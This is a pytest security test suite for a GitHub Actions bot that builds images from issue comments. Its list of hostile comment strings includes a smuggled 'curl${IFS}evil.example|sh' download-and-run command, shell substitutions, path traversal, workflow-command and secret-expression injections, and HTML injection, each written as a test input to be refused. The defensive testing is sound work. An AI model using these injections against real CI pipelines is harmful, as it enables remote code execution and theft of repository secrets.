"""What a stranger may try with a text, a name or an environment, and what must come of it: nothing."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from action.errors import InputError, Problem, run
from action.request.parse import MAX_TEXT
from tests.support.asking import ACCEPTED, COMMAND, TITLE, Stage

_ROW_KEYS = {"type", "app", "version", "arch", "context", "runner", "build_args"}
_TEXTS = [
    "/imagebuild_apps hello v1.0.0;curl${IFS}evil.example|sh",
    "/imagebuild_apps hello $(id)",
    "/imagebuild_apps hello `id`",
    "/imagebuild_apps hello ${{secrets.TOKEN}}",
    "/imagebuild_apps ../../.github/workflows v1",
    "/imagebuild_apps .. v1.0.0",
    "/imagebuild_apps hello ../../../etc",
    "/imagebuild_apps hello/../helm v1.0.0",
    "/imagebuild_apps --output=/tmp v1",
    "/imagebuild_apps hello --privileged",
    "/imagebuild_apps hello v1.0.0\u2028/imagebuild_apps helm v1",
    "/imagebuild_apps hello v1.0.0\x00",
    "/imagebuild_apps hell\u043e v1.0.0",
    "/imagebuild_apps \u202eolleh v1.0.0",
    "/imagebuild_apps hello v1.0.0%0A::set-output name=batches::[1]",
    "/imagebuild_app ::add-mask::labring",
    "/imagebuild_app ##[add-mask]labring",
    "/imagebuild_apps @octocat #1",
    "/imagebuild_apps </code></pre><img/src=x> v1",
    "/imagebuild_apps ```` v1",
    "/imagebuild_apps " + "a" * (MAX_TEXT - 100),
    "/imagebuild_apps hello " + "v1," * 1000,
]


@pytest.mark.parametrize("text", _TEXTS)
def test_nothing_is_built_of_it_and_nothing_of_it_is_obeyed(
    stage: Stage, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Script, path, option, character, log-command and Markdown injection, by someone who may build."""
    stage.github.add_issue(title=TITLE, labels=ACCEPTED)
    outputs = stage.comment(text)
    assert outputs["batches"] == []
    printed = capsys.readouterr()
    for line in re.split(r"[\r\n\u2028\u2029\x0b\x0c\x85]", printed.out + printed.err):
        assert not line.lstrip().startswith("::")
        assert "##[" not in line
    [body] = stage.github.bodies()
    outside = re.sub(r"(`{3,})text\n.*?\n\1|`[^`]*`", "", body, flags=re.S)
    for part in ("octocat", "<img", "evil", "${{", "##["):
        assert part not in outside


def test_values_reach_the_matrix_only_as_text(stage: Stage) -> None:
    """Matrix injection: a value may hold anything, and is one JSON text of a row with fixed keys."""
    stage.github.add_issue(title="【Auto-build】helm", labels=ACCEPTED)
    hostile = r"\"}],\"rows\":[{\"app\":\"evil\"}] ${{ github.token }} $(id) EOF"
    outputs = stage.comment(f'/imagebuild_dockerimages helm v1 A="{hostile}"')
    [batch] = outputs["batches"]
    assert set(batch) == {"rows", "targets", "force", "replace"}
    for row in batch["rows"]:
        assert set(row) == _ROW_KEYS
        assert (row["app"], row["version"], row["context"]) == ("helm", "v1", "applications/helm/latest")
        assert row["build_args"] == {"A": hostile.replace('\\"', '"')}


def test_the_commenter_is_asked_for_his_rights_and_not_the_actor_of_the_run(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTOR", "owner")
    monkeypatch.setenv("GITHUB_TRIGGERING_ACTOR", "owner")
    stage.github.add_issue(title=TITLE, labels=ACCEPTED)
    assert stage.comment(COMMAND, login="stranger")["decision"] == "refused"


def test_what_an_event_says_about_rights_counts_for_nothing(stage: Stage) -> None:
    """author_association tells nothing about the repository, and a label in the event may be gone."""
    issue = stage.github.add_issue(title=TITLE)
    user = {"login": "stranger", "type": "User"}
    event: dict[str, Any] = {
        "action": "created",
        "issue": {**issue, "labels": [{"name": "accepted"}], "author_association": "OWNER"},
        "comment": {"id": 9, "body": COMMAND, "user": user, "author_association": "OWNER"},
        "sender": user,
    }
    assert stage.plan("issue_comment", event)["decision"] == "waiting"
    issue["labels"] = [{"name": "accepted"}]
    assert stage.plan("issue_comment", event)["decision"] == "refused"


def test_an_approval_is_not_stretched_to_another_application(stage: Stage) -> None:
    """Approved under one title, asked for again under another: the digest has the title's application in it."""
    stage.open(COMMAND)
    assert stage.label()["decision"] == "build"
    stage.github.issues[1]["title"] = "【Auto-build】helm"
    assert stage.comment("/imagebuild_apps helm v1", login="asker")["decision"] == "refused"


def test_one_issue_does_not_make_us_talk_without_end(stage: Stage) -> None:
    stage.github.add_issue(title=TITLE, labels=ACCEPTED)
    for _ in range(22):
        stage.comment("/imagebuild_apps hello", login="stranger")
    assert len(stage.github.bodies()) == 20
    assert stage.comment(COMMAND)["decision"] == "build"


@pytest.mark.parametrize("kind", [InputError, RuntimeError])
def test_what_an_error_quotes_is_not_obeyed(kind: type[Exception], capsys: pytest.CaptureFixture[str]) -> None:
    """The last lines of an init.sh, an answer of a registry: they end in a message, and the message in the log."""
    hostile = "init.sh failed:\n::add-mask::labring\n  ::stop-commands::x\n##[group]x\r::error::y"

    def fail() -> int:
        raise kind(Problem("x", hostile)) if kind is InputError else kind(hostile)

    assert run(fail) == (1 if kind is InputError else 3)
    printed = capsys.readouterr().err
    assert "add-mask" in printed
    for line in re.split(r"[\r\n]", printed):
        assert not line.lstrip().startswith("::")
        assert "##[" not in line


def test_the_plan_holds_no_token(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    stage.github.add_issue(title=TITLE, labels=ACCEPTED)
    outputs = stage.comment(COMMAND)
    text = json.dumps(outputs) + capsys.readouterr().out + "".join(stage.github.bodies())
    assert "workflow-token" not in text
